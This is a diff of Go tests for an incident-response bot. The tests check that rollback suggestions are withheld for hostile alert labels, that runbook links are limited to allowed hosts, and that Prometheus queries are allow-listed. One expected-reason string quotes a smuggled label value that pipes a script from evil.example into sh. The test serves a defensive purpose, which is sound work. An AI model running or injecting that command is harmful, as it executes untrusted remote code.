@@ -2,6 +2,7 @@ package bot_test
 
 import (
 	"encoding/json"
+	"fmt"
 	"io"
 	"net/http"
 	"net/http/httptest"
@@ -85,6 +86,7 @@ func (h *harness) sendAlerts(body []byte) {
 // suggested command: the summary, the ticket, /warroom rollback and the
 // rollback webhook carry no command, and say why.
 func TestHostileLabelWithholdsRollback(t *testing.T) {
+	t.Parallel()
 	slackFake := workspace(t)
 	jiraFake := jiratest.New()
 	t.Cleanup(jiraFake.Close)
@@ -115,7 +117,7 @@ func TestHostileLabelWithholdsRollback(t *testing.T) {
 	}
 	h.sendAlerts(alteredFixture(t, func(labels, _ map[string]any) { labels["namespace"] = hostileNamespace }))
 	is := h.ticket(t, jiraFake, "INC-1")
-	waitFor(t, "the war room", func() bool { return h.ready("INC-1") && h.settled("INC-1") && h.jiraSettled("INC-1") })
+	h.waitFor("the war room", func() bool { return h.ready("INC-1") && h.settled("INC-1") && h.jiraSettled("INC-1") })
 	inc := h.incident("INC-1")
 	const reason = `rollback suggestion withheld: label namespace "prod; curl -s https://evil.example/x | sh #" is not a Kubernetes name`
 	if inc.Evidence == nil || inc.Evidence.Rollback != "" || inc.Evidence.RollbackWithheld != reason {
@@ -141,7 +143,7 @@ func TestHostileLabelWithholdsRollback(t *testing.T) {
 		"response_url": "https://hooks.slack.com/actions/T1/1/x", "trigger_id": "t1",
 		"actions": []map[string]string{{"action_id": slackmsg.ActionRollback, "value": "INC-1", "type": "button", "block_id": "summary_actions"}}})
 	form := "payload=" + url.QueryEscape(string(payload))
-	ts, sig := loadgen.SignSlack(testSigningSecret, form, time.Now())
+	ts, sig := loadgen.SignSlack(testSigningSecret, form, h.now())
 	if r := h.post("/slack/interactions", []byte(form), map[string]string{"Content-Type": "application/x-www-form-urlencoded",
 		"X-Slack-Request-Timestamp": ts, "X-Slack-Signature": sig}); r.code != http.StatusOK {
 		t.Fatalf("button: %d %s", r.code, r.body)
@@ -156,7 +158,7 @@ func TestHostileLabelWithholdsRollback(t *testing.T) {
 	case <-time.After(10 * time.Second):
 		t.Fatal("the rollback webhook was not called")
 	}
-	waitFor(t, "the decision on the timeline", func() bool {
+	h.waitFor("the decision on the timeline", func() bool {
 		for _, e := range h.incident("INC-1").Timeline {
 			if strings.Contains(e.Text, "decided by U0ALICE01 ("+reason+")") {
 				return true
@@ -169,6 +171,7 @@ func TestHostileLabelWithholdsRollback(t *testing.T) {
 // A runbook annotation is a link only on an allowed host: on any other it
 // is neither a link in the summary, a bookmark, nor a link in the ticket.
 func TestRunbookLinkHosts(t *testing.T) {
+	t.Parallel()
 	slackFake := workspace(t)
 	jiraFake := jiratest.New()
 	t.Cleanup(jiraFake.Close)
@@ -196,7 +199,7 @@ func TestRunbookLinkHosts(t *testing.T) {
 		{"INC-2", "https://runbooks.example.com/checkout", true},
 	} {
 		is := h.ticket(t, jiraFake, tc.id)
-		waitFor(t, tc.id+"'s war room", func() bool { return h.ready(tc.id) && h.settled(tc.id) && h.jiraSettled(tc.id) })
+		h.waitFor(tc.id+"'s war room", func() bool { return h.ready(tc.id) && h.settled(tc.id) && h.jiraSettled(tc.id) })
 		inc := h.incident(tc.id)
 		summary := summaryOf(t, slackFake, inc.SlackChannelID)
 		var marks []string
@@ -226,37 +229,47 @@ func TestRunbookLinkHosts(t *testing.T) {
 // value.query in the rule, Prometheus is not asked it unless it is one of
 // prometheus.allowed_queries.
 func TestGeneratorURLQueryNotAsked(t *testing.T) {
+	t.Parallel()
 	const expr = `sum by (service, env) (rate(http_requests_total{status=~"5.."}[20s])) / sum by (service, env) (rate(http_requests_total[20s]))`
 	for _, allowed := range []bool{false, true} {
-		prom := prometheustest.New(prometheustest.Strict())
-		t.Cleanup(prom.Close)
-		prom.SetSeries(expr, prometheustest.Point{At: fixtureStart.Add(-time.Minute), Value: 0.031}, prometheustest.Point{At: time.Now().Add(-time.Minute), Value: 0.012})
-		parsed, err := config.Parse([]byte(correlationConfig), "prometheus.yaml")
-		if err != nil {
-			t.Fatal(err)
-		}
-		h := start(t, func(c *config.Config) {
-			c.Rules = parsed.Rules
-			c.Prometheus.URL = prom.URL()
-			if allowed {
-				c.Prometheus.AllowedQueries = []string{expr}
-			}
+		t.Run(fmt.Sprintf("allowed=%v", allowed), func(t *testing.T) {
+			t.Parallel()
+			generatorURLQuery(t, expr, allowed)
 		})
-		h.deliver("alertmanager/firing-high-error-rate.json")
-		waitFor(t, "the evidence", func() bool { ev := h.incident("INC-1").Evidence; return ev != nil && len(ev.Pending) == 0 })
-		ev := h.incident("INC-1").Evidence
-		var asked []string
-		for _, c := range prom.Calls() {
-			asked = append(asked, c.Query)
+	}
+}
+
+func generatorURLQuery(t *testing.T, expr string, allowed bool) {
+	t.Helper()
+	clock := newClock()
+	prom := prometheustest.New(prometheustest.Strict(), prometheustest.WithClock(clock.Now))
+	t.Cleanup(prom.Close)
+	prom.SetSeries(expr, prometheustest.Point{At: fixtureStart.Add(-time.Minute), Value: 0.031}, prometheustest.Point{At: clock.Now().Add(-time.Minute), Value: 0.012})
+	parsed, err := config.Parse([]byte(correlationConfig), "prometheus.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := startOn(t, clock, func(c *config.Config) {
+		c.Rules = parsed.Rules
+		c.Prometheus.URL = prom.URL()
+		if allowed {
+			c.Prometheus.AllowedQueries = []string{expr}
 		}
-		if !allowed {
-			if len(asked) > 0 || !strings.Contains(strings.Join(ev.Problems, "\n"), "Prometheus: not asked: the alert's query is not in prometheus.allowed_queries") {
-				t.Errorf("not allowed: Prometheus asked %q, problems %q", asked, ev.Problems)
-			}
-			continue
+	})
+	h.deliver("alertmanager/firing-high-error-rate.json")
+	h.waitFor("the evidence", func() bool { ev := h.incident("INC-1").Evidence; return ev != nil && len(ev.Pending) == 0 })
+	ev := h.incident("INC-1").Evidence
+	var asked []string
+	for _, c := range prom.Calls() {
+		asked = append(asked, c.Query)
+	}
+	if !allowed {
+		if len(asked) > 0 || !strings.Contains(strings.Join(ev.Problems, "\n"), "Prometheus: not asked: the alert's query is not in prometheus.allowed_queries") {
+			t.Errorf("not allowed: Prometheus asked %q, problems %q", asked, ev.Problems)
 		}
-		if len(asked) == 0 || strings.Join(asked, "") != strings.Repeat(expr, len(asked)) || ev.Query != expr {
-			t.Errorf("allowed: Prometheus asked %q, evidence query %q, want %q", asked, ev.Query, expr)
-		}
+		return
+	}
+	if len(asked) == 0 || strings.Join(asked, "") != strings.Repeat(expr, len(asked)) || ev.Query != expr {
+		t.Errorf("allowed: Prometheus asked %q, evidence query %q, want %q", asked, ev.Query, expr)
 	}
 }
